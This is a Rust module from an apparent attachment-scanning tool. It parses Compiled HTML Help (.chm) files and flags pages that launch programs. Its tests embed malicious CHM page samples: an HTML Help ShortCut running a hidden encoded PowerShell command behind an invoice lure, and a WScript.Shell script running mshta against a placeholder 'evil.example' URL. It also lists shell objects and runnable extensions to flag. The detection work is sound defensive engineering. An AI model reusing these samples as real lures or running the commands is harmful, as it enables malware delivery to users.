//! Microsoft Compiled HTML Help (`.chm`, the ITSF/ITSS container hh.exe opens). hh.exe renders its
//! pages with local-zone rights, so a help file's script or HTML Help ActiveX control can start any
//! program: a favourite lure of Kimsuky and others (ATT&CK T1218.001).
//!
//! The layout follows the public descriptions of the format (Matthew Russotto, "Microsoft's HTML
//! Help (.chm) format"; chmlib; libmspack's chmd):
//! - ITSF header (version 2 or 3): two header sections (section 0, and the directory) and, in
//!   version 3, the offset of content section 0.
//! - The directory: an ITSP header followed by fixed-size chunks; `PMGL` chunks list the files as
//!   (name, content section, offset, length) with ENCINT numbers; `PMGI` chunks only index them.
//! - Content section 0 is stored as is; section 1 ("MSCompressed") is the file
//!   `::DataSpace/Storage/MSCompressed/Content` of section 0, an LZX stream cut into 32 KiB frames
//!   whose compressed offsets the reset table lists, with the window size and reset interval in
//!   `ControlData`.
//!
//! Every file (pages, scripts, embedded programs) goes to [`Walk::child`]; pages are also read here
//! for the HTML Help ShortCut command, shell objects in script and links to programs.

use crate::archive::{self, bytes, u32le, u64le};
use crate::exe::script::{command_markers, launchers, urls};
use crate::{Node, Walk};
use spearwatch_core::{technique as t, truncate_str, Severity};

/// Directory entries read at most: the node limit stops far earlier, this bounds the parse itself.
const MAX_ENTRIES: usize = 100_000;
/// Page bytes scanned for commands at most.
const MAX_SCAN: usize = 4 << 20;
/// LZX frame size: section 1 is decoded in frames of this many bytes (the reset table's block length).
const FRAME: u64 = 0x8000;
/// Largest LZX window accepted: CHM compilers use 2^15..2^21 bytes.
const MAX_WINDOW: u64 = 1 << 21;

const CONTENT: &str = "::DataSpace/Storage/MSCompressed/Content";
const CONTROL: &str = "::DataSpace/Storage/MSCompressed/ControlData";
const RESET_TABLE: &str = "::DataSpace/Storage/MSCompressed/Transform/\
    {7FC28940-9D31-11D0-9B27-00A0C91E9C7C}/InstanceData/ResetTable";

/// The class id of the HTML Help ActiveX control (hhctrl.ocx), whose `ShortCut` command runs a program.
const HHCTRL_CLSID: &str = "adb880a6-d8ff-11cf-9377-00aa003b7a11";

/// One directory entry of a PMGL chunk.
#[derive(Debug, Clone)]
struct Entry {
    name: String,
    section: u64,
    offset: u64,
    length: u64,
}

/// What the headers say.
struct Layout {
    version: u32,
    /// Start of content section 0 in the file.
    content: u64,
    entries: Vec<Entry>,
    /// PMGL chunks whose entries did not parse to the end.
    damaged_chunks: usize,
}

pub(crate) fn analyse(w: &mut Walk<'_>, node: &mut Node, data: &[u8]) {
    let base = crate::walk::base_name(&node.name).to_string();
    node.flag(
        "chm.file",
        Severity::High,
        "Attachment is a compiled HTML help file, whose pages run script with local rights",
        &[t::COMPILED_HTML],
        &base,
        "hh.exe renders .chm pages in the local zone: script and the HTML Help ActiveX control in them \
         can start programs; mail has no reason to carry help files",
    );
    let Some(layout) = parse(data) else {
        node.format = Some("Compiled HTML Help (headers unreadable)".into());
        return;
    };
    let Layout {
        version,
        content,
        entries,
        damaged_chunks,
    } = layout;

    // Section 1 is needed only if some user file lives there.
    let wants_sec1 = entries
        .iter()
        .any(|e| e.section == 1 && e.length > 0 && !internal(&e.name));
    let mut notes: Vec<String> = Vec::new();
    let sec1 = if wants_sec1 {
        let need = entries
            .iter()
            .filter(|e| e.section == 1 && !internal(&e.name))
            .map(|e| e.offset.saturating_add(e.length))
            .max()
            .unwrap_or(0);
        match section1(w, node, data, content, &entries, need) {
            Ok((out, partial)) => {
                notes.extend(partial.map(|e| format!("section 1 partly decoded ({e})")));
                Some(out)
            }
            Err(e) => {
                notes.push(format!("section 1 not decoded: {e}"));
                None
            }
        }
    } else {
        None
    };

    let mut system: Vec<&str> = Vec::new();
    let mut files = 0usize;
    let mut unread = 0usize;
    for e in &entries {
        if internal(&e.name) {
            if system.len() < 12 && !e.name.ends_with('/') {
                system.push(&e.name);
            }
            continue;
        }
        // Directories are entries whose name ends with '/', with no data.
        if e.name.ends_with('/') && e.length == 0 {
            continue;
        }
        if w.expired(node) {
            break;
        }
        files += 1;
        let got: Option<&[u8]> = match e.section {
            0 => usize::try_from(content.saturating_add(e.offset))
                .ok()
                .zip(usize::try_from(e.length).ok())
                .and_then(|(o, l)| bytes(data, o, l)),
            1 => sec1.as_deref().and_then(|s| {
                let o = usize::try_from(e.offset).ok()?;
                let l = usize::try_from(e.length).ok()?;
                bytes(s, o, l)
            }),
            _ => None,
        };
        let before = node.children.len();
        match got {
            Some(b) => {
                scan_page(node, &e.name, b);
                w.child(node, &e.name, b);
            }
            None => {
                unread += 1;
                w.listed(node, &e.name, e.length, false);
            }
        }
        if archive::refused(node, before) {
            break;
        }
    }
    archive::flag_executables(node, "CHM file");

    let mut fmt = format!(
        "Compiled HTML Help (ITSF v{version}), {files} files{}",
        if sec1.is_some() {
            ", LZX section decoded"
        } else {
            ""
        }
    );
    if unread > 0 {
        fmt.push_str(&format!(", {unread} not readable"));
    }
    if damaged_chunks > 0 {
        fmt.push_str(&format!(", {damaged_chunks} damaged directory chunks"));
    }
    if !system.is_empty() {
        fmt.push_str(&format!("; system files {}", system.join(", ")));
    }
    for n in notes {
        fmt.push_str("; ");
        fmt.push_str(&n);
    }
    node.format = Some(fmt);
}

/// System files: `::DataSpace/...` storage and `#`/`$`-prefixed tables (`/#SYSTEM`, `/$FIftiMain`).
fn internal(name: &str) -> bool {
    name.starts_with("::")
        || name.starts_with("/#")
        || name.starts_with("/$")
        || name.starts_with('#')
        || name.starts_with('$')
        || name == "/"
}

/// ITSF header, ITSP directory header and every PMGL chunk's entries.
fn parse(data: &[u8]) -> Option<Layout> {
    if bytes(data, 0, 4)? != b"ITSF" {
        return None;
    }
    let version = u32le(data, 4)?;
    if !(2..=3).contains(&version) {
        return None;
    }
    // Header section table at 0x38: (offset u64, length u64) for header section 0, then 1 (the
    // directory).
    let dir_off = u64le(data, 0x48)?;
    let dir_len = u64le(data, 0x50)?;
    // Version 3 stores the content section 0 offset at 0x58; version 2 puts it after the directory.
    let content = if version == 3 {
        u64le(data, 0x58)?
    } else {
        dir_off.checked_add(dir_len)?
    };
    let dir = usize::try_from(dir_off).ok()?;
    if bytes(data, dir, 4)? != b"ITSP" {
        return None;
    }
    let hdr_len = u32le(data, dir.checked_add(8)?)? as usize;
    let chunk_size = u32le(data, dir.checked_add(0x10)?)? as usize;
    let n_chunks = u32le(data, dir.checked_add(0x2C)?)? as usize;
    // A chunk holds at least its 0x14-byte PMGL header; real files use 4096.
    if !(0x20..=1 << 20).contains(&chunk_size) || hdr_len < 0x20 {
        return None;
    }
    let first = dir.checked_add(hdr_len)?;
    // Only chunks that are in the file are read, whatever the declared count.
    let present = data.len().saturating_sub(first) / chunk_size;
    let mut entries = Vec::new();
    let mut damaged = 0;
    for i in 0..n_chunks.min(present) {
        let Some(chunk) = bytes(data, first + i * chunk_size, chunk_size) else {
            break;
        };
        if chunk.get(..4) != Some(b"PMGL") {
            continue; // PMGI index chunks and free chunks
        }
        if !pmgl(chunk, &mut entries) {
            damaged += 1;
        }
        if entries.len() >= MAX_ENTRIES {
            break;
        }
    }
    Some(Layout {
        version,
        content,
        entries,
        damaged_chunks: damaged,
    })
}

/// The entries of one PMGL chunk: from 0x14 to the start of the quick-reference area, whose length
/// the header gives at offset 4. Returns false if an entry was cut short.
fn pmgl(chunk: &[u8], out: &mut Vec<Entry>) -> bool {
    let free = u32le(chunk, 4).unwrap_or(0) as usize;
    let end = chunk.len().saturating_sub(free).max(0x14);
    let Some(body) = chunk.get(0x14..end) else {
        return false;
    };
    let mut pos = 0;
    while pos < body.len() && out.len() < MAX_ENTRIES {
        let Some(e) = entry(body, &mut pos) else {
            return false;
        };
        out.push(e);
    }
    true
}

fn entry(b: &[u8], pos: &mut usize) -> Option<Entry> {
    let len = usize::try_from(encint(b, pos)?).ok()?;
    if len == 0 {
        return None;
    }
    let raw = bytes(b, *pos, len)?;
    *pos += len;
    let name = String::from_utf8_lossy(raw).into_owned();
    let section = encint(b, pos)?;
    let offset = encint(b, pos)?;
    let length = encint(b, pos)?;
    Some(Entry {
        name,
        section,
        offset,
        length,
    })
}

/// ENCINT: big-endian groups of 7 bits, the high bit set on every byte but the last. More than
/// 64 bits is damage.
fn encint(b: &[u8], pos: &mut usize) -> Option<u64> {
    let mut v: u64 = 0;
    for _ in 0..10 {
        let byte = *b.get(*pos)?;
        *pos += 1;
        if v >> 57 != 0 {
            return None;
        }
        v = (v << 7) | u64::from(byte & 0x7F);
        if byte & 0x80 == 0 {
            return Some(v);
        }
    }
    None
}

/// A section 0 file by name.
fn sec0<'d>(data: &'d [u8], content: u64, entries: &[Entry], name: &str) -> Option<&'d [u8]> {
    let e = entries
        .iter()
        .find(|e| e.section == 0 && e.name.eq_ignore_ascii_case(name))?;
    let off = usize::try_from(content.checked_add(e.offset)?).ok()?;
    bytes(data, off, usize::try_from(e.length).ok()?)
}

/// Decodes section 1 up to `need` bytes (the end of the last user file in it), within the walk's
/// room. The bytes are charged to the walk; [`Walk::child`] does not charge slices of them again.
fn section1(
    w: &mut Walk<'_>,
    node: &mut Node,
    data: &[u8],
    content: u64,
    entries: &[Entry],
    need: u64,
) -> Result<(Vec<u8>, Option<String>), String> {
    let packed = sec0(data, content, entries, CONTENT).ok_or("no MSCompressed/Content")?;
    let control = sec0(data, content, entries, CONTROL).ok_or("no ControlData")?;
    let table = sec0(data, content, entries, RESET_TABLE).ok_or("no reset table")?;

    // ControlData: dword count, "LZXC", version, reset interval, window size, cache size. Version 2
    // counts the interval and window in 32 KiB frames, version 1 in bytes.
    if bytes(control, 4, 4) != Some(b"LZXC") {
        return Err("ControlData is not LZXC".into());
    }
    let cversion = u32le(control, 8).ok_or("short ControlData")?;
    let mut reset = u64::from(u32le(control, 12).ok_or("short ControlData")?);
    let mut window = u64::from(u32le(control, 16).ok_or("short ControlData")?);
    if cversion == 2 {
        reset = reset.saturating_mul(FRAME);
        window = window.saturating_mul(FRAME);
    }
    let window_size = lzx_window(window).ok_or_else(|| format!("LZX window {window} bytes"))?;
    if reset == 0 || !reset.is_multiple_of(FRAME) {
        return Err(format!("reset interval {reset} bytes"));
    }
    let reset_frames = reset / FRAME;

    // Reset table: version, entry count, entry size, header length, uncompressed length,
    // compressed length, block length, then one u64 compressed offset per block (frame).
    let n = u32le(table, 4).ok_or("short reset table")? as usize;
    let esize = u32le(table, 8).ok_or("short reset table")? as usize;
    let hlen = u32le(table, 12).ok_or("short reset table")? as usize;
    let ulen = u64le(table, 16).ok_or("short reset table")?;
    let block = u64le(table, 32).ok_or("short reset table")?;
    if esize != 8 || block != FRAME {
        return Err(format!("reset table entry size {esize}, block {block}"));
    }
    let offsets: Vec<u64> = (0..n)
        .map_while(|i| u64le(table, hlen.checked_add(i.checked_mul(8)?)?))
        .collect();

    let room = w.room();
    let target = need.min(ulen);
    let mut out: Vec<u8> = Vec::new();
    let mut lzx = lzxd::Lzxd::new(window_size);
    let mut err = None;
    for (i, &start) in offsets.iter().enumerate() {
        let pos = out.len() as u64;
        if pos >= target {
            break;
        }
        if pos >= room {
            w.limit(
                node,
                "total bytes",
                format!("CHM section 1 expands beyond {room} bytes; later files not opened"),
            );
            break;
        }
        if w.expired(node) {
            break;
        }
        let end = offsets
            .get(i + 1)
            .copied()
            .unwrap_or(packed.len() as u64)
            .min(packed.len() as u64);
        let Some(frame) = usize::try_from(start)
            .ok()
            .zip(usize::try_from(end).ok())
            .and_then(|(s, e)| packed.get(s..e))
        else {
            err = Some(format!("frame {i} offsets out of range"));
            break;
        };
        if i > 0 && (i as u64).is_multiple_of(reset_frames) {
            lzx.reset();
        }
        let len = FRAME.min(ulen - pos) as usize;
        // lzxd is a third-party decoder; contain a panic on hostile input rather than lose the
        // whole attachment's analysis.
        let got = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
            lzx.decompress_next(frame, len).map(<[u8]>::to_vec)
        }));
        match got {
            Ok(Ok(b)) => out.extend_from_slice(&b),
            Ok(Err(e)) => {
                err = Some(format!("frame {i}: {e}"));
                break;
            }
            Err(_) => {
                err = Some(format!("frame {i}: the LZX decoder failed"));
                break;
            }
        }
    }
    if out.len() as u64 > room {
        out.truncate(room as usize);
    }
    w.charge_read(&out);
    if out.is_empty() {
        return Err(err.unwrap_or_else(|| "empty".into()));
    }
    // Keep what decoded: files inside it are still read; the rest are listed.
    Ok((out, err))
}

fn lzx_window(bytes: u64) -> Option<lzxd::WindowSize> {
    use lzxd::WindowSize as W;
    if bytes > MAX_WINDOW {
        return None;
    }
    Some(match bytes {
        0x8000 => W::KB32,
        0x1_0000 => W::KB64,
        0x2_0000 => W::KB128,
        0x4_0000 => W::KB256,
        0x8_0000 => W::KB512,
        0x10_0000 => W::MB1,
        0x20_0000 => W::MB2,
        _ => return None,
    })
}

/// Extensions a page should not point at: programs and scripts Windows runs.
const RUNNABLE: &[&str] = &[
    "exe", "scr", "hta", "ps1", "bat", "cmd", "vbs", "vbe", "jse", "wsf", "msi", "pif", "lnk",
    "cpl",
];

/// Shell objects a help page's script has no business creating.
const SHELL_OBJECTS: &[&str] = &[
    "wscript.shell",
    "shell.application",
    "shellexecute",
    "wscript.createobject",
];

/// Reads a page (HTML or script) for commands, text and links.
fn scan_page(node: &mut Node, name: &str, b: &[u8]) {
    let ext = archive::extension(name);
    let head = b
        .iter()
        .take(512)
        .copied()
        .skip_while(u8::is_ascii_whitespace);
    let looks_html = head.take(1).any(|c| c == b'<');
    if !(looks_html
        || matches!(
            ext.as_str(),
            "htm" | "html" | "xhtml" | "hta" | "stm" | "js" | "vbs" | "wsf" | "sct" | "txt"
        ))
    {
        return;
    }
    let text = String::from_utf8_lossy(&b[..b.len().min(MAX_SCAN)]);
    let low = text.to_ascii_lowercase();
    let mut commands: Vec<String> = Vec::new();
    let mut why: Vec<&str> = Vec::new();

    // The HTML Help ActiveX control: Command=ShortCut runs Item1, "[window],program,arguments".
    if low.contains(HHCTRL_CLSID) {
        let params = params(&text, &low);
        let shortcut = params.iter().any(|(k, v)| {
            k.eq_ignore_ascii_case("command") && v.to_ascii_lowercase().contains("shortcut")
        });
        for (k, v) in &params {
            if k.eq_ignore_ascii_case("item1") {
                let mut parts = v.splitn(3, ',');
                let _window = parts.next();
                let prog = parts.next().unwrap_or("").trim();
                let args = parts.next().unwrap_or("").trim();
                let cmd = format!("{prog} {args}").trim().to_string();
                if shortcut || !launchers(&cmd).is_empty() {
                    commands.push(cmd);
                    why.push("HTML Help ActiveX ShortCut command");
                }
            }
        }
    }
    // Script that creates a shell object, or names a launcher with command-line switches. Only
    // script is read, not prose: developer help files document ShellExecute and PowerShell.
    let script = if looks_html {
        scripts(&text, &low)
    } else {
        text.to_string()
    };
    let slow = script.to_ascii_lowercase();
    if let Some(obj) = SHELL_OBJECTS.iter().find(|o| slow.contains(**o)) {
        commands.push(statement(&script, &slow, obj));
        why.push("script creates a shell object");
    }
    let la = launchers(&script);
    if !la.is_empty() && !command_markers(&script).is_empty() && commands.is_empty() {
        let first = la.first().map(|l| l.name).unwrap_or("");
        commands.push(statement(&script, &slow, first));
        why.push("script starts a command interpreter");
    }
    // Links and objects pointing at programs.
    for v in attr_values(&text, &low, &["href", "data", "codebase", "src"]) {
        let path = v.split(['?', '#']).next().unwrap_or("");
        if RUNNABLE.contains(&archive::extension(path).as_str()) && commands.len() < 20 {
            commands.push(v);
            why.push("link or object points at a program");
        }
    }

    node.push_text(&visible_text(&text));
    for u in urls(&text) {
        // `urls` is made for command lines: in HTML an address also ends at markup.
        let u = u.split(['<', '>', '"', '\'']).next().unwrap_or("");
        let u = u.trim_end_matches(['.', ',', ')', ';']);
        if u.len() > "https://".len() {
            node.push_link(u);
        }
    }
    if commands.is_empty() {
        return;
    }
    let mut techniques = vec![t::COMPILED_HTML];
    for c in &commands {
        for l in launchers(c) {
            if !techniques.contains(&l.technique) {
                techniques.push(l.technique);
            }
        }
    }
    if low.contains("wscript.shell") && !techniques.contains(&t::VISUAL_BASIC) {
        techniques.push(t::COMMAND_INTERPRETER);
    }
    why.dedup();
    let value = truncate_str(&commands.join(" ; "), 1024);
    let ev = node
        .evidence(&value)
        .with_note(format!("{name}: {}", why.join(", ")));
    if let Some(f) = node.findings.iter_mut().find(|f| f.id == "chm.command") {
        // One finding per CHM: later pages add evidence.
        f.evidence.push(ev);
        return;
    }
    node.flag(
        "chm.command",
        Severity::Critical,
        "Compiled HTML help page runs a command when opened",
        &techniques,
        value,
        format!("{name}: {}", why.join(", ")),
    );
}

/// The contents of the page's `<script>` elements, at most [`MAX_SCAN`] bytes together.
fn scripts(text: &str, low: &str) -> String {
    let mut out = String::new();
    let mut from = 0;
    while let Some(i) = low.get(from..).and_then(|r| r.find("<script")) {
        let open = from + i;
        let Some(body) = low
            .get(open..)
            .and_then(|r| r.find('>'))
            .map(|p| open + p + 1)
        else {
            break;
        };
        let end = low
            .get(body..)
            .and_then(|r| r.find("</script"))
            .map_or(low.len(), |p| body + p);
        out.push_str(text.get(body..end).unwrap_or(""));
        out.push('\n');
        if out.len() > MAX_SCAN {
            break;
        }
        from = end;
    }
    out
}

/// The statement around the first `needle`: from the line start, up to 300 characters.
fn statement(text: &str, low: &str, needle: &str) -> String {
    let Some(i) = low.find(needle) else {
        return needle.to_string();
    };
    let start = low[..i].rfind(['\n', ';', '>']).map_or(0, |p| p + 1);
    let rest = text.get(start..).unwrap_or("");
    let line: String = rest
        .chars()
        .take_while(|&c| c != '\n' && c != '<')
        .take(300)
        .collect();
    line.trim().to_string()
}

/// `(name, value)` of every `<param ...>` tag.
fn params(text: &str, low: &str) -> Vec<(String, String)> {
    let mut out = Vec::new();
    for (i, _) in low.match_indices("<param").take(200) {
        let attrs = tag_attrs(text, i + "<param".len());
        let get = |k: &str| {
            attrs
                .iter()
                .find(|(n, _)| n.eq_ignore_ascii_case(k))
                .map(|(_, v)| v.clone())
        };
        if let (Some(n), Some(v)) = (get("name"), get("value")) {
            out.push((n, v));
        }
    }
    out
}

/// Values of the named attributes in any tag.
fn attr_values(text: &str, low: &str, names: &[&str]) -> Vec<String> {
    let mut out = Vec::new();
    let mut tags = 0;
    for (i, _) in low.match_indices('<') {
        let Some(rest) = low.get(i + 1..) else {
            continue;
        };
        let tag_end = rest
            .find(|c: char| !c.is_ascii_alphanumeric())
            .unwrap_or(rest.len());
        if !matches!(
            &rest[..tag_end],
            "a" | "object" | "embed" | "iframe" | "frame" | "area"
        ) {
            continue;
        }
        // Each tag's attributes are read up to 2 KiB: a few thousand tags bound the work.
        tags += 1;
        if tags > 5_000 {
            break;
        }
        for (n, v) in tag_attrs(text, i + 1 + tag_end) {
            if names.iter().any(|k| n.eq_ignore_ascii_case(k)) && out.len() < 200 {
                out.push(v);
            }
        }
    }
    out
}

/// Attributes of a tag from `from` (just past its name) to its unquoted `>`, at most 2 KiB.
fn tag_attrs(text: &str, from: usize) -> Vec<(String, String)> {
    let s = text.get(from..).unwrap_or("");
    let mut chars = s.char_indices().take_while(|&(i, _)| i < 2048).peekable();
    let mut out = Vec::new();
    loop {
        while chars
            .next_if(|(_, c)| c.is_whitespace() || *c == '/')
            .is_some()
        {}
        let Some(&(_, c)) = chars.peek() else { break };
        if c == '>' {
            break;
        }
        let mut name = String::new();
        while let Some((_, c)) =
            chars.next_if(|(_, c)| !c.is_whitespace() && !matches!(c, '=' | '>' | '/'))
        {
            name.push(c);
        }
        while chars.next_if(|(_, c)| c.is_whitespace()).is_some() {}
        let mut value = String::new();
        if chars.next_if(|(_, c)| *c == '=').is_some() {
            while chars.next_if(|(_, c)| c.is_whitespace()).is_some() {}
            match chars.peek().map(|&(_, c)| c) {
                Some(q @ ('"' | '\'')) => {
                    chars.next();
                    for (_, c) in chars.by_ref() {
                        if c == q {
                            break;
                        }
                        value.push(c);
                    }
                }
                _ => {
                    while let Some((_, c)) = chars.next_if(|(_, c)| !c.is_whitespace() && *c != '>')
                    {
                        value.push(c);
                    }
                }
            }
        }
        if name.is_empty() && value.is_empty() {
            // A stray character: step over it so the loop always advances.
            if chars.next().is_none() {
                break;
            }
            continue;
        }
        if out.len() < 64 {
            out.push((name, value));
        }
    }
    out
}

/// Page text without tags, scripts and styles, for the lure detectors.
fn visible_text(text: &str) -> String {
    let mut out = String::new();
    let mut in_tag = false;
    let mut skip: Option<&str> = None;
    let low = text.to_ascii_lowercase();
    let mut i = 0;
    let b = text.as_bytes();
    while i < b.len() && out.len() < 64 << 10 {
        if let Some(end) = skip {
            match low.get(i..).and_then(|r| r.find(end)) {
                Some(p) => {
                    i += p + end.len();
                    skip = None;
                }
                None => break,
            }
            continue;
        }
        let c = b[i];
        if c == b'<' {
            in_tag = true;
            let r = low.get(i..).unwrap_or("");
            if r.starts_with("<script") {
                skip = Some("</script");
            } else if r.starts_with("<style") {
                skip = Some("</style");
            }
        } else if c == b'>' {
            in_tag = false;
            out.push(' ');
        } else if !in_tag {
            let ch_len = text
                .get(i..)
                .and_then(|r| r.chars().next())
                .map_or(1, char::len_utf8);
            if let Some(s) = text.get(i..i + ch_len) {
                out.push_str(s);
            }
            i += ch_len;
            continue;
        }
        i += 1;
    }
    out.split_whitespace().collect::<Vec<_>>().join(" ")
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;
    use crate::Options;

    fn encint(mut v: u64, out: &mut Vec<u8>) {
        let mut groups = vec![(v & 0x7F) as u8];
        v >>= 7;
        while v > 0 {
            groups.push((v & 0x7F) as u8 | 0x80);
            v >>= 7;
        }
        out.extend(groups.iter().rev());
    }

    /// An LZX stream of one uncompressed block (block type 3) holding `plain`, with the compressed
    /// offset of every 32 KiB frame.
    fn lzx_uncompressed(plain: &[u8]) -> (Vec<u8>, Vec<u64>) {
        let n = plain.len() as u32;
        // Bits, read as little-endian 16-bit words, high bit first: E8 flag 0, block type 3, 24-bit
        // size; the 4 bits left in the second word are padding up to the 16-bit boundary.
        let w1 = (3u16 << 12) | ((n >> 12) & 0xFFF) as u16;
        let w2 = ((n & 0xFFF) << 4) as u16;
        let mut s = Vec::new();
        s.extend(w1.to_le_bytes());
        s.extend(w2.to_le_bytes());
        for _ in 0..3 {
            s.extend(1u32.to_le_bytes()); // R0..R2
        }
        let head = s.len() as u64;
        s.extend_from_slice(plain);
        if plain.len() % 2 == 1 {
            s.push(0);
        }
        let frames = plain.len().div_ceil(FRAME as usize).max(1);
        let offsets = (0..frames as u64)
            .map(|i| if i == 0 { 0 } else { head + i * FRAME })
            .collect();
        (s, offsets)
    }

    /// An ITSF v3 file: `sec0` stored, `sec1` in an LZX section (if any).
    pub(crate) fn build(sec0: &[(&str, &[u8])], sec1: &[(&str, &[u8])]) -> Vec<u8> {
        let mut files: Vec<(String, u64, Vec<u8>)> = Vec::new();
        let mut names: Vec<(String, u64, u64, u64)> =
            vec![("/".into(), 0, 0, 0), ("/#SYSTEM".into(), 0, 0, 4)];
        files.push(("/#SYSTEM".into(), 0, vec![3, 0, 0, 0]));
        for (n, d) in sec0 {
            files.push((n.to_string(), 0, d.to_vec()));
        }
        if !sec1.is_empty() {
            let mut plain = Vec::new();
            for (n, d) in sec1 {
                names.push((n.to_string(), 1, plain.len() as u64, d.len() as u64));
                plain.extend_from_slice(d);
            }
            let (stream, offsets) = lzx_uncompressed(&plain);
            let mut control = Vec::new();
            control.extend(6u32.to_le_bytes());
            control.extend(b"LZXC");
            for v in [2u32, 2, 2, 2, 0] {
                control.extend(v.to_le_bytes()); // version 2, reset every 2 frames, 64 KiB window
            }
            let mut table = Vec::new();
            for v in [2u32, offsets.len() as u32, 8, 0x28] {
                table.extend(v.to_le_bytes());
            }
            for v in [plain.len() as u64, stream.len() as u64, FRAME] {
                table.extend(v.to_le_bytes());
            }
            for o in offsets {
                table.extend(o.to_le_bytes());
            }
            files.push((CONTENT.into(), 0, stream));
            files.push((CONTROL.into(), 0, control));
            files.push((RESET_TABLE.into(), 0, table));
        }
        let mut content = Vec::new();
        for (n, _, d) in &files {
            if n == "/#SYSTEM" {
                names[1].2 = content.len() as u64;
            } else {
                names.push((n.clone(), 0, content.len() as u64, d.len() as u64));
            }
            content.extend_from_slice(d);
        }
        // One PMGL chunk.
        let chunk_size = 0x1000usize;
        let mut body = Vec::new();
        for (n, sec, off, len) in &names {
            encint(n.len() as u64, &mut body);
            body.extend(n.as_bytes());
            encint(*sec, &mut body);
            encint(*off, &mut body);
            encint(*len, &mut body);
        }
        assert!(body.len() + 0x14 <= chunk_size);
        let mut chunk = b"PMGL".to_vec();
        chunk.extend(((chunk_size - 0x14 - body.len()) as u32).to_le_bytes());
        chunk.extend(0u32.to_le_bytes());
        chunk.extend((-1i32).to_le_bytes());
        chunk.extend((-1i32).to_le_bytes());
        chunk.extend(body);
        chunk.resize(chunk_size, 0);
        let mut itsp = b"ITSP".to_vec();
        for v in [
            1u32,
            0x54,
            0xa,
            chunk_size as u32,
            2,
            1,
            u32::MAX,
            0,
            0,
            u32::MAX,
            1,
            0x409,
        ] {
            itsp.extend(v.to_le_bytes());
        }
        itsp.extend([0u8; 16]);
        for v in [0x54u32, u32::MAX, u32::MAX, u32::MAX] {
            itsp.extend(v.to_le_bytes());
        }
        assert_eq!(itsp.len(), 0x54);
        let dir_len = (itsp.len() + chunk_size) as u64;
        let mut out = b"ITSF".to_vec();
        for v in [3u32, 0x60, 1, 0, 0x409] {
            out.extend(v.to_le_bytes());
        }
        out.extend([0u8; 32]);
        for v in [0x60u64, 0x18, 0x78, dir_len, 0x78 + dir_len] {
            out.extend(v.to_le_bytes());
        }
        assert_eq!(out.len(), 0x60);
        out.extend(0x1FEu32.to_le_bytes());
        out.extend([0u8; 20]);
        out.extend(itsp);
        out.extend(chunk);
        out.extend(content);
        out
    }

    const SHORTCUT: &[u8] = br#"<html><body><p>Invoice details</p>
<OBJECT id=x classid="clsid:adb880a6-d8ff-11cf-9377-00aa003b7a11" width=1 height=1>
<PARAM name="Command" value="ShortCut">
<PARAM name="Button" value="Bitmap::shortcut">
<PARAM name="Item1" value=',cmd.exe,/c powershell -w hidden -enc SQBFAFgAIAAnAGgAaQAnAA=='>
<PARAM name="Item2" value="273,1,1">
</OBJECT>
<SCRIPT>x.Click();</SCRIPT></body></html>"#;

    const BENIGN: &[u8] = b"<html><head><title>Help</title></head><body><h1>Getting started</h1>\
<p>Open the <a href=\"setup.htm\">setup page</a> or visit https://example.org/docs.</p></body></html>";

    fn ids(n: &Node) -> Vec<String> {
        n.findings.iter().map(|f| f.id.clone()).collect()
    }

    #[test]
    fn shortcut_command_in_stored_page_is_critical() {
        let data = build(&[("/index.htm", SHORTCUT), ("/help.htm", BENIGN)], &[]);
        let n = crate::analyse(&data, "manual.chm", None, &Options::default());
        assert_eq!(n.detected_type, crate::Kind::Chm);
        let f = n
            .findings
            .iter()
            .find(|f| f.id == "chm.command")
            .expect("chm.command");
        assert_eq!(f.severity, Severity::Critical);
        let ev = &f.evidence[0];
        assert!(
            ev.value.contains("cmd.exe /c powershell -w hidden -enc"),
            "{}",
            ev.value
        );
        assert!(ev.note.as_deref().unwrap_or("").contains("/index.htm"));
        let tech: Vec<&str> = f.techniques.iter().map(String::as_str).collect();
        assert!(
            tech.contains(&t::COMPILED_HTML) && tech.contains(&t::POWERSHELL),
            "{tech:?}"
        );
        assert!(tech.contains(&t::WINDOWS_COMMAND_SHELL));
        assert!(n.has("chm.file"));
        let names: Vec<&str> = n.children.iter().map(|c| c.name.as_str()).collect();
        assert_eq!(names, ["/index.htm", "/help.htm"]);
        assert!(n.text.contains("Invoice details") && n.text.contains("Getting started"));
        assert!(n.links.iter().any(|l| l == "https://example.org/docs"));
        assert!(n.format.as_deref().unwrap_or("").contains("/#SYSTEM"));
    }

    #[test]
    fn benign_help_page_gets_only_the_file_finding() {
        // A developer help page that documents ShellExecute and PowerShell switches in prose.
        let api = b"<html><body><h2>ShellExecute</h2><p>Call ShellExecute or WScript.Shell's Run; \
            from a console, run <code>powershell -enc BASE64</code>.</p></body></html>";
        let data = build(&[("/index.htm", BENIGN), ("/api.htm", api)], &[]);
        let n = crate::analyse(&data, "help.chm", None, &Options::default());
        let chm: Vec<String> = ids(&n)
            .into_iter()
            .filter(|i| i.starts_with("chm."))
            .collect();
        assert_eq!(chm, ["chm.file"]);
        assert_eq!(
            n.findings
                .iter()
                .find(|f| f.id == "chm.file")
                .map(|f| f.severity),
            Some(Severity::High)
        );
        assert_eq!(n.children.len(), 2);
        assert!(!n.has("archive.contains_executable"));
    }

    #[test]
    fn lzx_section_across_frames_is_decoded() {
        let pad = vec![b' '; 36_000];
        let page = br#"<html><script language="VBScript">Set s = CreateObject("WScript.Shell")
s.Run "mshta https://evil.example/a.hta", 0</script></html>"#;
        let data = build(&[], &[("/pad.txt", &pad), ("/run.htm", page)]);
        let n = crate::analyse(&data, "a.chm", None, &Options::default());
        assert!(
            n.format
                .as_deref()
                .unwrap_or("")
                .contains("LZX section decoded"),
            "{:?}",
            n.format
        );
        let run = n
            .children
            .iter()
            .find(|c| c.name == "/run.htm")
            .expect("page");
        assert_eq!(run.size, page.len() as u64);
        let f = n
            .findings
            .iter()
            .find(|f| f.id == "chm.command")
            .expect("chm.command");
        assert!(
            f.evidence[0].value.contains("WScript.Shell"),
            "{}",
            f.evidence[0].value
        );
        assert!(n
            .links
            .iter()
            .any(|l| l.starts_with("https://evil.example/a.hta")));
    }

    #[test]
    fn embedded_program_and_link_to_it() {
        let pe = crate::archive::zip::tests::pe();
        let page = b"<html><a href=\"update.exe\">Update</a></html>";
        let data = build(&[("/index.htm", page), ("/update.exe", &pe)], &[]);
        let n = crate::analyse(&data, "a.chm", None, &Options::default());
        assert!(n.has("archive.contains_executable"), "{:?}", ids(&n));
        let f = n
            .findings
            .iter()
            .find(|f| f.id == "chm.command")
            .expect("chm.command");
        assert_eq!(f.evidence[0].value, "update.exe");
    }

    #[test]
